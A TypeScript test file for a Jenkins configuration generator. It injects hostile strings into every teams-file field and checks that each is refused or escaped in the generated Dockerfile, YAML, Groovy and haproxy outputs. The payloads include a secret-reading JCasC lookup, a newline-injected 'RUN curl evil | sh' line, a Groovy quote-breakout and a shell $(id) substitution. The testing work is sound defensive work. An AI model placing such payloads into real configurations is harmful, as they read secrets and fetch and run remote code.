import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { parseTeamsDocument } from '../../catalog/teams-file';
import { planFromTeams } from '../../library-gen/src/plan';
import { loadTemplates } from '../../library-gen/src/template-source';

/**
 * Every string of the teams file, walked into every generated file (jenkins.yaml, seedJob.groovy,
 * Dockerfile, plugins.txt, the Job DSL seeds, haproxy.cfg, the library resources): a hostile value
 * is either refused at load naming its field, or reaches its outputs escaped for them — never as
 * a JCasC `${...}` lookup (which resolves secrets), a new line of a Dockerfile or haproxy.cfg, a
 * quote closing a Groovy or YAML string, or a shell `$(...)`.
 */
const templates = loadTemplates(join(__dirname, '..', '..'));

/** A team entry with every optional field given, so every string leaf is there to mutate. */
const FULL = {
  team_name: 'devops',
  self_management_enabled: true,
  image: 'jenkins-custom-devops:latest',
  web_port: 8080,
  agent_port: 50000,
  haproxy_backend: 'jenkins_backend_devops',
  jenkins_user: 'sidecar',
  jenkins_token_file: '/etc/jenkins-sidecar/devops.token',
  jenkins_url_blue: 'http://127.0.0.1:8080',
  jenkins_url_green: 'http://127.0.0.1:8180',
  sidecar_credentials_id: 'sidecar-token',
  required_agents: ['build-1'],
  webhooks: { pre_switch: 'https://hooks.example.com/pre', step: 'https://hooks.example.com/step', promoted: 'https://hooks.example.com/ok', rolled_back: 'https://hooks.example.com/back' },
  jenkins_base_image: 'jenkins/jenkins:2.479.3-lts-jdk17',
  plugins: { 'configuration-as-code': 'latest' },
  self_management_config: { state_backup_interval: '15m', pipelines_repository: 'https://git.example.com/lib.git', pipelines_branch: 'main', pipelines_credentials_id: 'git-creds' },
  shared_library: { name: 'jenkins-selfmanage', scm_url: 'https://git.example.com/jsm.git', default_version: 'main', credentials_id: 'git-creds', library_path: 'library/' },
  dynamic_agents: {
    docker_host: 'unix:///var/run/docker.sock',
    maven_agents: { image: 'jenkins/jenkins-agent-maven', labels: ['maven'], capabilities: ['java'], remote_fs: '/home/jenkins/agent' },
  },
  jenkins_configuration: { admin_user: 'admin', system_message: 'Hello', seed_job_label: 'built-in', controller_executors: 1 },
  secrets: { sidecar_token: { file: '/run/secrets/sidecar-token' }, admin_password: { env: 'ADMIN_PASSWORD' }, service_password: { file: '/run/secrets/svc' } },
};

type Path = Array<string | number>;

function stringLeaves(value: unknown, path: Path = []): Path[] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value)) return value.flatMap((v, i) => stringLeaves(v, [...path, i]));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, v]) => stringLeaves(v, [...path, k]));
  return [];
}

function withValue(path: Path, v: string): Record<string, unknown> {
  const copy = structuredClone(FULL) as Record<string, unknown>;
  let at: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path[path.length - 1]!] = v;
  return copy;
}

const MARK = 'zqx';
const HOSTILE = [
  `${MARK}\${readFile:/run/secrets/jenkins-admin-password}`,
  `${MARK}\nRUN curl evil | sh`,
  `${MARK}'"; System.exit(1) //`,
  `${MARK}$(id)`,
  `${MARK} ${MARK}`,
];

function render(entry: Record<string, unknown>): { errors: string[]; files: Map<string, string> } {
  const { teams, errors } = parseTeamsDocument(stringify({ jenkins_teams: [entry] }), 'teams.yml');
  if (errors.length) return { errors, files: new Map() };
  return { errors, files: new Map(planFromTeams(teams, templates)) };
}

/** What an accepted hostile value may look like in `file`, or why it may not be there at all. */
function problemIn(file: string, text: string, hostile: string): string | null {
  if (!text.includes(MARK)) return null;
  const marked = text.split('\n').filter((l) => l.includes(MARK));
  // The file's own secret references are ${readFile:...} on purpose: only the lines the value reached count.
  if (hostile.includes('${readFile') && marked.some((l) => /\$\{readFile/.test(l.replace(/\^\$\{/g, '')))) return 'an unescaped JCasC ${...} lookup';
  if (hostile.includes('\n') && text.split('\n').some((l) => l.trim().startsWith('RUN curl evil'))) return 'a line of its own';
  if (hostile.includes('$(id)') && /\$\(id\)/.test(text) && /Dockerfile|\.sh$/.test(file)) return 'a shell substitution';
  if (file.endsWith('.yaml') || file.endsWith('.yml')) {
    try {
      parse(text);
    } catch (e) {
      return `YAML that no longer parses (${(e as Error).message.split('\n')[0]})`;
    }
  }
  if (file.endsWith('.groovy') && marked.some((l) => l.includes("'\"; System.exit"))) return 'a Groovy string closed by a quote';
  return null;
}

describe('every teams-file string into every output', () => {
  const leaves = stringLeaves(FULL);
  const table: string[] = [];

  it('the base entry renders (so a refusal below is the hostile value, not the base)', () => {
    const r = render(FULL);
    expect(r.errors).toEqual([]);
    expect([...r.files.keys()]).toEqual(expect.arrayContaining(['teams/devops/jenkins.yaml', 'teams/devops/Dockerfile', 'haproxy/haproxy.cfg']));
  });

  it.each(leaves.map((p) => [p.join('.'), p] as const))('%s', (name, path) => {
    for (const hostile of HOSTILE) {
      const r = render(withValue(path, hostile));
      if (r.errors.length) {
        // Refused at load: one error, naming the field.
        const field = name.replace(/\.(\d+)(?=\.|$)/g, '.$1');
        expect(r.errors.join('\n')).toMatch(new RegExp(`field ${field.split('.')[0]}`));
        table.push(`${name}: refused (${JSON.stringify(hostile).slice(0, 30)})`);
        continue;
      }
      const reached = [...r.files].filter(([, text]) => text.includes(MARK));
      for (const [file, text] of reached) {
        const why = problemIn(file, text, hostile);
        if (why) throw new Error(`${name} = ${JSON.stringify(hostile)} reaches ${file} as ${why}`);
      }
      table.push(`${name}: accepted, reaches ${reached.map(([f]) => f).join(', ') || 'no generated file (sidecar only)'}`);
    }
  });

  afterAll(() => {
    process.stderr.write(`teams-file fields × outputs:\n  ${[...new Set(table)].join('\n  ')}\n`);
  });
});
